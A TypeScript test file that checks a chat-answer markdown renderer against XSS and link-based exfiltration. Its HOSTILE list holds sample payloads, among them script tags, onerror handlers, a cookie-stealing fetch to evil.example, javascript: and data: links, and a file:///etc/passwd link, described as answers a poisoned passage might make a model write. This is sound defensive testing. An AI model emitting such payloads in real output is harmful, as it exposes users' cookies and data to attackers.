import { describe, expect, it } from 'vitest';
import { renderAnswer } from '../../../src/lib/chat/markdown';

const ORIGIN = 'https://app.example';
const render = (source: string): string => renderAnswer(source, ORIGIN);

/**
 * Every tag in `html` with its attribute names. With raw HTML disabled, every `<` the renderer emits
 * starts a tag (text `<` is escaped), so a `<` that does not parse as a well-formed tag fails here.
 */
function tagsOf(html: string): { name: string; attributes: string[] }[] {
	const tags: { name: string; attributes: string[] }[] = [];
	let rest = html;
	for (let at = rest.indexOf('<'); at !== -1; at = rest.indexOf('<')) {
		rest = rest.slice(at);
		const tag = /^<\/?([a-z][a-z0-9]*)((?:\s+[a-z][a-z-]*="[^"<>]*")*)\s*\/?>/.exec(rest);
		if (!tag) throw new Error(`not a well-formed tag: ${rest.slice(0, 40)}`);
		const [whole, name = '', attributeText = ''] = tag;
		const attributes = [...attributeText.matchAll(/\s+([a-z][a-z-]*)=/g)].map((m) => m[1] ?? '');
		tags.push({ name, attributes });
		rest = rest.slice(whole.length);
	}
	return tags;
}

const ALLOWED_TAGS = new Set(
	'p br strong em s code pre blockquote ul ol li hr div table thead tbody tr th td a'.split(' ')
);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
	a: ['href', 'rel', 'title'],
	p: ['class'],
	div: ['class'],
	th: ['class'],
	td: ['class'],
	ol: ['start']
};

/** Answers a poisoned passage might make a model write. */
const HOSTILE = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
	'<img src=x onerror="fetch(`https://evil.example/?`+document.cookie)">',
	'<a href="https://evil.example" onclick="steal()">click</a>',
	'<div onmouseover="x()">hover</div>',
	'<svg onload=alert(1)>',
	'<iframe src="https://evil.example"></iframe>',
	'<style>body{background:url(https://evil.example/p)}</style>',
	'[click](javascript:alert(1))',
	'[click](JAVASCRIPT:alert(1))',
	'[click](&#106;avascript:alert(1))',
	'[click](java\\script:alert(1))',
	'[click](<javascript:alert(1)>)',
	'[click](vbscript:msgbox(1))',
	'[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
	'![pixel](data:image/png;base64,iVBORw0KGgo=)',
	'![x](https://evil.example/p.png?q=secret)',
	'![x](https://evil.example/p.png "title") and ![y](//evil.example/q.png)',
	'[a][r] and ![b][r]\n\n[r]: https://evil.example/x?q=secret',
	'[![badge](https://evil.example/b.svg)](https://evil.example/go)',
	'<https://evil.example/?q=secret>',
	'<mailto:someone@evil.example?body=secret>',
	'<someone@evil.example>',
	'[proto](//evil.example/x)',
	'[backslash](\\\\evil.example/x)',
	'[file](file:///etc/passwd)',
	'[blob](blob:https://evil.example/1)',
	'[mail](mailto:someone@evil.example?body=secret)',
	'[x](/ok "onmouseover=alert(1)")',
	'```"><img src=x onerror=alert(1)>\ncode\n```',
	'| a | b |\n|:-:|--:|\n| <img src=x> | [x](https://evil.example) |',
	'# <script>x</script>\n\n## [h](javascript:x)'
];

describe('renderAnswer', () => {
	it('escapes a script tag instead of rendering it', () => {
		expect(render('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n');
	});

	it('escapes raw HTML with event handler attributes', () => {
		expect(render('<img src=x onerror=alert(1)>')).toBe('<p>&lt;img src=x onerror=alert(1)&gt;</p>\n');
		expect(render('<a href="https://evil.example" onclick="steal()">click</a>')).toBe(
			'<p>&lt;a href=&quot;https://evil.example&quot; onclick=&quot;steal()&quot;&gt;click&lt;/a&gt;</p>\n'
		);
	});

	it('keeps HTML entities as text, never as markup', () => {
		expect(render('&lt;script&gt; &amp; &#x3C;img src=x onerror=y&#x3E; &copy;')).toBe(
			'<p>&lt;script&gt; &amp; &lt;img src=x onerror=y&gt; ©</p>\n'
		);
	});

	it('renders a javascript: link as its text only', () => {
		expect(render('[click](javascript:alert(1))')).toBe('<p>click</p>\n');
		expect(render('[click](&#106;avascript:alert(1))')).toBe('<p>click</p>\n');
		expect(render('[click](JAVASCRIPT:alert(1))')).toBe('<p>click</p>\n');
	});

	it('renders data:, file:, blob: and mailto: links as their text only', () => {
		expect(render('[doc](data:text/html,hi) [f](file:///etc/passwd) [b](blob:https://x/1)')).toBe(
			'<p>doc f b</p>\n'
		);
		expect(render('[mail](mailto:someone@evil.example?body=secret)')).toBe('<p>mail</p>\n');
	});

	it('renders a link to another origin as its text, without the URL', () => {
		expect(render('See [the leaflet](https://evil.example/leaflet?q=secret).')).toBe(
			'<p>See the leaflet.</p>\n'
		);
		expect(render('[proto](//evil.example/x) [http](http://app.example/x)')).toBe('<p>proto http</p>\n');
	});

	it('renders a remote image as its alt text and requests nothing', () => {
		expect(render('![x](https://evil.example/p.png?q=secret)')).toBe('<p>[x]</p>\n');
		expect(render('![](https://evil.example/p.png)')).toBe('<p></p>\n');
		expect(render('![pixel](data:image/png;base64,iVBORw0KGgo=)')).toBe('<p>[pixel]</p>\n');
	});

	it('renders an image inside a link as alt text, with no link', () => {
		expect(render('[![badge](https://evil.example/b.svg)](https://evil.example/go)')).toBe(
			'<p>[badge]</p>\n'
		);
	});

	it('applies the same rules to reference-style links and images', () => {
		expect(render('[a][r] and ![b][r]\n\n[r]: https://evil.example/x?q=secret')).toBe('<p>a and [b]</p>\n');
		expect(render('[help][h]\n\n[h]: /about')).toBe(
			'<p><a href="https://app.example/about" rel="noopener noreferrer">help</a></p>\n'
		);
	});

	it('shows an autolink to another origin as plain text', () => {
		expect(render('<https://evil.example/?q=secret>')).toBe('<p>https://evil.example/?q=secret</p>\n');
		expect(render('<someone@evil.example>')).toBe('<p>someone@evil.example</p>\n');
	});

	it('does not turn bare URLs into links', () => {
		expect(render('Go to https://evil.example now')).toBe('<p>Go to https://evil.example now</p>\n');
	});

	it('keeps a same-origin link, relative or absolute, as the absolute URL that was checked', () => {
		expect(render('[about](/about) [settings](https://app.example/settings#kiosk)')).toBe(
			'<p><a href="https://app.example/about" rel="noopener noreferrer">about</a> ' +
				'<a href="https://app.example/settings#kiosk" rel="noopener noreferrer">settings</a></p>\n'
		);
		expect(render('<https://app.example/about>')).toBe(
			'<p><a href="https://app.example/about" rel="noopener noreferrer">https://app.example/about</a></p>\n'
		);
	});

	it('drops the query string of a same-origin link, so an answer cannot change app settings (?kiosk=0)', () => {
		expect(render('[home](/?kiosk=0) [chat](https://app.example/?kiosk=0&x=1#top) [s](?kiosk=0)')).toBe(
			'<p><a href="https://app.example/" rel="noopener noreferrer">home</a> ' +
				'<a href="https://app.example/#top" rel="noopener noreferrer">chat</a> ' +
				'<a href="https://app.example/" rel="noopener noreferrer">s</a></p>\n'
		);
	});

	it('resolves a path that only looks like a scheme to a same-origin URL', () => {
		expect(render('[click](java\\script:alert(1))')).toBe(
			'<p><a href="https://app.example/java%5Cscript:alert(1)" rel="noopener noreferrer">click</a></p>\n'
		);
	});

	it('keeps a link title as an attribute value only', () => {
		expect(render('[x](/ok "onmouseover=alert(1)")')).toBe(
			'<p><a href="https://app.example/ok" title="onmouseover=alert(1)" rel="noopener noreferrer">x</a></p>\n'
		);
	});

	it('keeps a tel: link, so an emergency number can be called', () => {
		expect(render('Call [120](tel:120) or [+44 999](tel:+44%20999).')).toBe(
			'<p>Call <a href="tel:120" rel="noopener noreferrer">120</a> or ' +
				'<a href="tel:+44%20999" rel="noopener noreferrer">+44 999</a>.</p>\n'
		);
	});

	it('renders a tel: link that is not a phone number as its text only', () => {
		expect(render('[call](tel:abc?x=1) [empty](tel:)')).toBe('<p>call empty</p>\n');
	});

	it('keeps no link but tel: when the origin is not an http(s) origin', () => {
		expect(renderAnswer('[about](/about) [120](tel:120)', 'null')).toBe(
			'<p>about <a href="tel:120" rel="noopener noreferrer">120</a></p>\n'
		);
	});

	it('renders lists, bold, emphasis and inline code', () => {
		expect(render('- **Rest** and _fluids_\n- `paracetamol` 500 mg\n\n1. one\n2. two')).toBe(
			'<ul>\n<li><strong>Rest</strong> and <em>fluids</em></li>\n<li><code>paracetamol</code> 500 mg</li>\n</ul>\n' +
				'<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n'
		);
	});

	it('renders nested emphasis', () => {
		expect(render('***all _of_ it*** and **bold *and em***')).toBe(
			'<p><em><strong>all <em>of</em> it</strong></em> and <strong>bold <em>and em</em></strong></p>\n'
		);
	});

	it('renders a code block with escaped content and no class from the info string', () => {
		expect(render('```"><img src=x onerror=alert(1)>\n<b>dose</b>\n```')).toBe(
			'<pre><code>&lt;b&gt;dose&lt;/b&gt;\n</code></pre>\n'
		);
	});

	it('turns single newlines into line breaks', () => {
		expect(render('Drink water.\nRest.')).toBe('<p>Drink water.<br>\nRest.</p>\n');
	});

	it('renders headings as bold paragraphs, outside the page outline', () => {
		expect(render('# When to see a doctor\n### Soon\ntext')).toBe(
			'<p class="answer-heading"><strong>When to see a doctor</strong></p>\n' +
				'<p class="answer-heading"><strong>Soon</strong></p>\n<p>text</p>\n'
		);
		expect(render('Setext\n===')).toBe('<p class="answer-heading"><strong>Setext</strong></p>\n');
	});

	it('renders a table in a scrolling wrapper, alignment as classes rather than style attributes', () => {
		expect(render('| a | b | c |\n|:-|:-:|--|\n| 1 | 2 | 3 |')).toBe(
			'<div class="table-scroll">\n<table>\n<thead>\n<tr>\n' +
				'<th class="align-left">a</th>\n<th class="align-center">b</th>\n<th>c</th>\n' +
				'</tr>\n</thead>\n<tbody>\n<tr>\n' +
				'<td class="align-left">1</td>\n<td class="align-center">2</td>\n<td>3</td>\n' +
				'</tr>\n</tbody>\n</table>\n</div>\n'
		);
	});

	it('shows a partially streamed **bold as literal text', () => {
		expect(render('Take it **with')).toBe('<p>Take it **with</p>\n');
		expect(render('Take it **with food**')).toBe('<p>Take it <strong>with food</strong></p>\n');
	});

	it('shows a partially streamed code fence as code up to the end', () => {
		expect(render('Try:\n```\nline one\nline')).toBe('<p>Try:</p>\n<pre><code>line one\nline</code></pre>\n');
	});

	it('renders every prefix of a streamed answer to well-formed, allowed tags and no outside link', () => {
		const answer =
			'## Fever\n- **Rest** and `fluids`\n- see [about](/about) or ![x](https://evil.example/p.png)\n\n' +
			'| a | b |\n|--|--|\n| 1 | 2 |\n\n```\ncode\n```\n> quote [x](https://evil.example)';
		for (let end = 0; end <= answer.length; end++) {
			const html = render(answer.slice(0, end));
			for (const tag of tagsOf(html)) expect(ALLOWED_TAGS.has(tag.name)).toBe(true);
			// A half-written link or image shows as text until it is complete: never as a link or image.
			expect(html).not.toContain('href="https://evil');
			expect(html).not.toContain('<img');
		}
	});

	it('produces only allowed tags and attributes, none starting with "on", for hostile answers', () => {
		for (const source of HOSTILE) {
			const html = render(source);
			for (const { name, attributes } of tagsOf(html)) {
				expect(ALLOWED_TAGS.has(name), `${name} in ${html}`).toBe(true);
				for (const attribute of attributes) {
					expect(attribute.startsWith('on'), `${attribute} in ${html}`).toBe(false);
					expect(ALLOWED_ATTRIBUTES[name] ?? [], `${attribute} in ${html}`).toContain(attribute);
				}
			}
			expect(html).not.toContain('<img');
			expect(html).not.toContain('<script');
			expect(html).not.toMatch(/<(iframe|svg|style|object|embed|form|input)/);
			expect(html).not.toContain('href="https://evil');
			expect(html).not.toMatch(/href="(?!tel:|https:\/\/app\.example\/)/);
			expect(html).not.toMatch(/javascript:|vbscript:|data:/i);
		}
	});

	// Speed is measured by the bench, not here: a catastrophic (super-linear) case would still hit
	// Vitest's test timeout, so this test also guards against regular-expression blow-ups.
	it('renders 100,000 characters of ordinary or pathological Markdown safely', () => {
		const inputs = [
			'Paracetamol **500 mg** every _six_ hours; see [x](https://evil.example) `code`.\n'.repeat(1300),
			'['.repeat(100_000),
			'*a**'.repeat(25_000),
			'|a|b|\n|-|-|\n' + '|x|y|\n'.repeat(16_000),
			'> '.repeat(50_000),
			'<'.repeat(100_000)
		];
		for (const source of inputs) {
			expect(source.length).toBeGreaterThanOrEqual(96_000);
			const html = render(source);
			expect(html.length).toBeGreaterThan(0);
			expect(html).not.toContain('href="https://evil');
		}
	});

	it('never throws, even for input that is not a string', () => {
		expect(render('')).toBe('');
		expect(render('\u0000\uFFFF\uD800')).toBe('<p>\uFFFD\uFFFF\uD800</p>\n');
		expect(() => renderAnswer(undefined as unknown as string, ORIGIN)).not.toThrow();
		expect(renderAnswer(undefined as unknown as string, ORIGIN)).toBe('');
	});
});
